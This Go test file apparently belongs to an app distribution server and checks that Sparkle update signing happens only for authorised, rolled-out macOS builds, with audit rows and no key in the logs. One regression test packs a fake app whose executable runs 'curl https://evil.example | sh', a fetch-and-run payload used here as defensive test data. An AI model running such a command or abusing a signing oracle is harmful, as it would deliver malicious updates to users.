package httpapi_test

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"encoding/base64"
	"fmt"
	"log/slog"
	"strings"
	"testing"
	"time"

	"github.com/slipwayhq/slipway/pkg/appinfo/apple/appletest"
	"github.com/slipwayhq/slipway/pkg/config"
	"github.com/slipwayhq/slipway/pkg/distribution"
	"github.com/slipwayhq/slipway/pkg/distribution/uploads"
	"github.com/slipwayhq/slipway/pkg/edsign"
	"github.com/slipwayhq/slipway/test/apptest"
)

// sparkleKey is an operator's Sparkle key as generate_keys -x exports it (base64 of the seed).
func sparkleKey(t *testing.T) (ed25519.PrivateKey, *edsign.Key) {
	t.Helper()
	_, priv, _ := ed25519.GenerateKey(nil)
	k, err := edsign.ParseKey([]byte(base64.StdEncoding.EncodeToString(priv.Seed())))
	if err != nil {
		t.Fatal(err)
	}
	return priv, k
}

// appcastSignatureOf finds the release's appcast item, downloads its enclosure and returns the
// bytes and the item's decoded signature.
func (f feedEnv) appcastSignatureOf(slug, build string) ([]byte, []byte) {
	f.t.Helper()
	for _, it := range f.appcast("/channels/" + slug + "/appcast.xml").Items {
		if it.Version == build {
			got := f.e.Follow(f.t, it.Enclosure.URL)
			sig, err := base64.StdEncoding.DecodeString(it.Enclosure.Signature)
			if got.Status != 200 || err != nil {
				f.t.Fatalf("build %s: enclosure %d, signature %q (%v)", build, got.Status, it.Enclosure.Signature, err)
			}
			return got.Body, sig
		}
	}
	f.t.Fatalf("build %s is not in the appcast", build)
	return nil, nil
}

// signingChannel makes a macOS channel (app "Desk") with Slipway's Sparkle signing switched on by
// the admin token, and returns its key and the app's id.
func (f feedEnv) signingChannel() (string, int64) {
	f.t.Helper()
	app := f.want(f.call("POST", "/api/apps", f.e.AdminToken, `{"name":"Desk"}`), 201, "create app")
	scheme := f.want(f.call("POST", fmt.Sprintf("/api/apps/%d/schemes", id(app)), f.e.AdminToken, `{"name":"Release"}`), 201, "create scheme")
	ch := f.want(f.call("POST", fmt.Sprintf("/api/schemes/%d/channels", id(scheme)), f.e.AdminToken,
		`{"name":"Mac","device_type":"macos","sparkle_signing":true}`), 201, "create channel")
	if ch["sparkle_signing"] != true {
		f.t.Fatalf("the channel: %v", ch)
	}
	return ch["slug"].(string), id(app)
}

// uploadMac uploads an unsigned macOS zip to the channel with token and waits until its checksums
// are verified.
func (f feedEnv) uploadMac(token, slug string, zip []byte, fields ...apptest.Part) map[string]any {
	f.t.Helper()
	parts := append([]apptest.Part{apptest.Field("channel_key", slug)}, fields...)
	parts = append(parts, apptest.File("Desk.zip", zip))
	rel := f.want(f.e.Upload(f.t, "/api/apps/upload", token, parts...), 201, "upload")
	return f.waitRelease(id(rel), func(r map[string]any) bool { return r["checksum_state"] == "verified" })
}

// drain runs a verifier holding key until it finds nothing left to verify or sign (the replica's
// own verifier has no key here, so only this one signs).
func (f feedEnv) drain(key *edsign.Key) {
	f.t.Helper()
	svc := f.e.Service
	v := uploads.NewVerifier(f.e.DB, f.e.Storage, distribution.Effects{Cache: svc.Reads, Webhooks: svc.Sender, Objects: svc.Objects, Events: svc.Events},
		time.Minute, slog.New(slog.DiscardHandler))
	v.SparkleKey, v.Audit = key, svc.Audit
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	for n := 0; ; n++ {
		did, err := v.VerifyNext(ctx)
		if err != nil || n > 20 {
			f.t.Fatalf("verify %d: %v", n, err)
		}
		if !did {
			return
		}
	}
}

// signatureOf is a release's ed_signature as the API reads it now.
func (f feedEnv) signatureOf(relID int64) string {
	f.t.Helper()
	rel := f.want(f.call("GET", fmt.Sprintf("/api/releases/%d", relID), f.e.AdminToken, ""), 200, "get release")
	s, _ := rel["ed_signature"].(string)
	return s
}

// The Sparkle signing oracle, replayed: with the operator's key configured, an upload token sent a
// shell script in a zip without a signature and got back a valid ed_signature, in any channel,
// even at rollout 0, and at rollout 100 it went straight into the appcast. Now Slipway signs only
// in a channel where an admin switched signing on, only what an admin token (or the app's people
// in the console, or a token limited to that app) uploaded there, and only once rolled out; each
// signature is an audit row.
func TestSparkleSigningOracle(t *testing.T) {
	priv, key := sparkleKey(t)
	f := feedEnv{newMgmt(t, apptest.Options{}), nil}
	script := appletest.BuildMacZip(appletest.MacZipOptions{AppName: "Desk", BundleID: "com.example.desk", Version: "6.6.6", Build: "666", MinOS: "12.0",
		Extra: []appletest.Entry{{Name: "Desk.app/Contents/MacOS/Desk", Data: []byte("#!/bin/sh\ncurl https://evil.example | sh\n")}}})

	// An upload token's build in a channel the upload made (signing off), at rollout 100.
	auto := f.want(f.e.Upload(t, "/api/apps/upload", f.e.UploadToken, apptest.File("Desk.zip", script)), 201, "upload")
	f.waitRelease(id(auto), func(r map[string]any) bool { return r["checksum_state"] == "verified" })
	// An upload token's build in a channel with signing on: the token reaches every app.
	slug, deskID := f.signingChannel()
	byToken := f.uploadMac(f.e.UploadToken, slug, script)
	// The admin token's build at rollout 0: nobody is offered it, so nothing trusts it yet.
	held := f.uploadMac(f.e.AdminToken, slug, appletest.BuildMacZip(appletest.MacZipOptions{AppName: "Desk", BundleID: "com.example.desk",
		Version: "1.0", Build: "1", MinOS: "12.0"}), apptest.Field("rollout", "0"))
	f.drain(key)
	for name, rel := range map[string]map[string]any{"the upload token's, signing off": auto, "the upload token's, signing on": byToken,
		"the admin's at rollout 0": held} {
		if sig := f.signatureOf(id(rel)); sig != "" {
			t.Errorf("%s build was signed: %s", name, sig)
		}
	}
	for _, it := range f.appcast("/channels/" + slug + "/appcast.xml").Items {
		if it.Enclosure.Signature != "" {
			t.Errorf("the appcast carries a signature Slipway made for build %s", it.Version)
		}
	}

	// Neither the upload token nor a rollout edit by it switches signing on; the admin token can.
	auto = f.want(f.call("GET", fmt.Sprintf("/api/releases/%d", id(auto)), f.e.AdminToken, ""), 200, "release")
	autoChannel := int64(auto["channel"].(map[string]any)["id"].(float64))
	f.want(f.call("PATCH", fmt.Sprintf("/api/channels/%d", autoChannel), f.e.UploadToken, `{"sparkle_signing":true}`), 403, "upload token switches signing on")
	if sig := f.signatureOf(id(auto)); sig != "" {
		t.Fatalf("signed after a refused switch: %s", sig)
	}

	// A token limited to the app is the CI credential that may have its builds signed there; one
	// limited to another app may not even upload there.
	appToken := f.want(f.call("POST", "/api/tokens", f.e.AdminToken, fmt.Sprintf(`{"name":"ci-desk","apps":[%d],"abilities":"upload,read"}`, deskID)), 201, "app token")["token"].(string)
	f.want(f.call("POST", "/api/apps", f.e.AdminToken, `{"name":"Other"}`), 201, "another app")
	otherToken := f.want(f.call("POST", "/api/tokens", f.e.AdminToken, `{"name":"ci-other","apps":["Other"]}`), 201, "other app token")["token"].(string)
	f.want(f.e.Upload(t, "/api/apps/upload", otherToken, apptest.Field("channel_key", slug), apptest.File("Desk.zip", script)), 403, "another app's token uploads")
	byAppToken := f.uploadMac(appToken, slug, appletest.BuildMacZip(appletest.MacZipOptions{AppName: "Desk", BundleID: "com.example.desk",
		Version: "1.1", Build: "2", MinOS: "12.0"}))

	// Rolled out, the admin's build is signed, verifiably, with one audit row naming the key.
	f.want(f.call("PATCH", fmt.Sprintf("/api/releases/%d", id(held)), f.e.AdminToken, `{"rollout":100}`), 200, "roll out")
	f.drain(key)
	if got := f.signatureOf(id(byAppToken)); got == "" {
		t.Error("the app token's build was not signed")
	}
	want := ed25519.Sign(priv, appletest.BuildMacZip(appletest.MacZipOptions{AppName: "Desk", BundleID: "com.example.desk", Version: "1.0", Build: "1", MinOS: "12.0"}))
	if got := f.signatureOf(id(held)); got != base64.StdEncoding.EncodeToString(want) {
		t.Fatalf("the rolled-out build: signature %q", got)
	}
	if sig := f.signatureOf(id(byToken)); sig != "" {
		t.Fatalf("the upload token's build was signed with the admin's: %s", sig)
	}
	rows, err := f.e.DB.AuditEntries(context.Background(), distribution.AuditFilter{Action: "release.sign", Limit: 10})
	if err != nil {
		t.Fatal(err)
	}
	signedIDs := map[int64]bool{}
	for _, r := range rows {
		signedIDs[r.Target.ID] = r.Detail["public_key"] == base64.StdEncoding.EncodeToString(key.Public())
	}
	if len(rows) != 2 || !signedIDs[id(held)] || !signedIDs[id(byAppToken)] {
		t.Fatalf("the audit rows of signatures: %+v", rows)
	}
}

// With SLIPWAY_SPARKLE_KEY_FILE and a channel with signing on, Slipway signs the macOS packages the
// admin token uploaded there without a Sparkle signature, by the replica's verifier's reads of the
// stored object (a proxied upload and a resumable session's alike); the appcast's edSignature
// verifies over the enclosure's bytes with the operator's public key (crypto/ed25519) and is
// exactly crypto/ed25519's signature. A signature the CI sent is kept, not replaced. The key shows
// in no log.
func TestSlipwaySignsSparkleEnclosures(t *testing.T) {
	priv, key := sparkleKey(t)
	_, ciKey, _ := ed25519.GenerateKey(nil)
	f := feedEnv{newMgmt(t, apptest.Options{Configure: func(c *config.Config) { c.SparkleKey = key }}), ciKey}

	slug, _ := f.signingChannel()
	zip := appletest.BuildMacZip(appletest.MacZipOptions{AppName: "Desk", BundleID: "com.example.desk", Version: "1.0.0", Build: "1", MinOS: "12.0"})
	unsigned := f.uploadMac(f.e.AdminToken, slug, zip)
	signed := f.waitRelease(id(unsigned), func(r map[string]any) bool { return r["ed_signature"] != "" })
	if want := base64.StdEncoding.EncodeToString(ed25519.Sign(priv, zip)); signed["ed_signature"] != want || signed["checksum_state"] != "verified" {
		t.Fatalf("Slipway's signature %v (%v), want crypto/ed25519's %s", signed["ed_signature"], signed["checksum_state"], want)
	}
	body, sig := f.appcastSignatureOf(slug, "1")
	if !ed25519.Verify(priv.Public().(ed25519.PublicKey), body, sig) {
		t.Fatal("the appcast's signature does not verify over the enclosure with the operator's public key")
	}

	// The CI's own signature is the one the feed carries.
	ci, ciZip := f.macBuild(slug, "1.1", "2")
	if ci["ed_signature"] != base64.StdEncoding.EncodeToString(ed25519.Sign(ciKey, ciZip)) {
		t.Fatalf("the CI's signature was replaced: %v", ci["ed_signature"])
	}
	if body, sig := f.appcastSignatureOf(slug, "2"); !ed25519.Verify(ciKey.Public().(ed25519.PublicKey), body, sig) {
		t.Fatal("the CI's signature does not verify in the appcast")
	}

	// A resumable session's package: its declared SHA-256 is verified and it is signed, by the
	// same background reads.
	s := sessions{f.mgmt}
	big := appletest.BuildMacZip(appletest.MacZipOptions{AppName: "Desk", BundleID: "com.example.desk", Version: "1.2", Build: "3", MinOS: "12.0",
		Extra: []appletest.Entry{{Name: "Desk.app/Contents/Resources/filler", Data: bytes.Repeat([]byte("slipway"), 1<<20), Store: true}}})
	var sess session
	started := s.call("POST", "/api/uploads", s.e.AdminToken, startBody("Desk.zip", len(big), sha(big), map[string]any{"channel_key": slug}))
	s.want(started, 201, "start")
	started.JSON(t, &sess)
	for i, p := range sess.Parts {
		off := int64(i) * sess.PartSize
		if st := s.put(p.URL, big[off:off+p.Size]); st != 200 {
			t.Fatalf("part %d: %d", p.Number, st)
		}
	}
	rel := s.want(s.call("POST", "/api/uploads/"+sess.ID+"/complete", s.e.AdminToken, ""), 201, "complete")
	rel = f.waitRelease(id(rel), func(r map[string]any) bool { return r["ed_signature"] != "" })
	if rel["checksum_state"] != "verified" || rel["ed_signature"] != base64.StdEncoding.EncodeToString(ed25519.Sign(priv, big)) {
		t.Fatalf("the session's release: %v, signature %v", rel["checksum_state"], rel["ed_signature"])
	}

	if logs := f.e.LogText(); strings.Contains(logs, base64.StdEncoding.EncodeToString(priv.Seed())[:16]) ||
		!strings.Contains(logs, "signed a macOS package for Sparkle") {
		t.Fatalf("the logs: the key's secret is there, or the signing is not: %s", logs)
	}
}

// Builds marked for signing before the operator configured a key are signed once it is: the
// verifier also takes verified releases still to be signed (and only those).
func TestSparkleKeySignsEarlierBuilds(t *testing.T) {
	priv, key := sparkleKey(t)
	_, ciKey, _ := ed25519.GenerateKey(nil)
	f := feedEnv{newMgmt(t, apptest.Options{}), ciKey}
	slug, _ := f.signingChannel()
	zip := appletest.BuildMacZip(appletest.MacZipOptions{AppName: "Desk", BundleID: "com.example.desk", Version: "1.0.0", Build: "1", MinOS: "12.0"})
	unsigned := f.uploadMac(f.e.AdminToken, slug, zip)
	if unsigned["ed_signature"] != "" {
		t.Fatalf("signed without a key: %v", unsigned["ed_signature"])
	}
	ci, _ := f.macBuild(slug, "1.1", "2")
	ipa := f.e.UploadApp(t, "P.ipa", appletest.BuildIPA(appletest.IPAOptions{AppName: "Phone", BundleID: "com.example.phone", Version: "1.0", Build: "1"}))

	// The replica restarts with the key: a verifier with it works through what is there.
	f.drain(key)
	if got := f.signatureOf(id(unsigned)); got != base64.StdEncoding.EncodeToString(ed25519.Sign(priv, zip)) {
		t.Fatalf("the earlier build: signature %v", got)
	}
	if again := f.signatureOf(id(ci)); again != ci["ed_signature"] {
		t.Fatalf("the CI-signed build changed: %v", again)
	}
	if again := f.signatureOf(id(ipa)); again != "" {
		t.Fatalf("an iOS build was signed: %v", again)
	}
	body, sig := f.appcastSignatureOf(slug, "1")
	if !ed25519.Verify(priv.Public().(ed25519.PublicKey), body, sig) {
		t.Fatalf("the appcast's signature of the earlier build does not verify (%d bytes)", len(body))
	}
}
